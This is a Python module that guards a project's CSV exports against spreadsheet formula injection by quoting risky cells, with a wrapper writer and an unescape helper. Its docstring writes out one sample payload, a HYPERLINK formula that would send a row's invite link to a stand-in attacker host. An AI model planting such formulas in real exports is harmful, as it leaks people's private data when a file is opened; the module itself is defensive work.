"""CSV cells that cannot run: every CSV the project writes passes its values through :func:`safe_cell`.

A spreadsheet (Excel, LibreOffice, Google Sheets) reads a cell that begins with ``=``, ``+``, ``-`` or
``@`` as a formula, and a tab or carriage return in front does not stop it: a patient's name typed as
``=HYPERLINK("https://evil.example/?"&F2,"Open")`` in a booking system would sit beside the row's
live invite link and send it away on a click. As OWASP recommends ("CSV Injection"), such a cell is
written with a single quote in front, which a spreadsheet shows as text and never evaluates.

A plain number (``-12``, ``+34600111222``, ``1.5``) is left as it is: a spreadsheet reads it as a
number, nothing in it can run, and an E.164 phone number stays the phone number an export reader
expects (defusedcsv makes the same exception).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable

# What a spreadsheet may take for the start of a formula (and the blanks that do not stop it).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)?")


def safe_cell(value: object) -> object:
    """``value`` as a CSV writer should get it: text a spreadsheet could run gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]


class SafeWriter:
    """A ``csv.writer`` whose every cell goes through :func:`safe_cell`: the one way this project writes CSV."""

    def __init__(self, handle) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, values: Iterable[object]) -> None:
        self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for values in rows:
            self.writerow(values)


def unescape_cell(value: str) -> str:
    """The value :func:`safe_cell` was given, for a reader of our own files (``aftercare cards``)."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
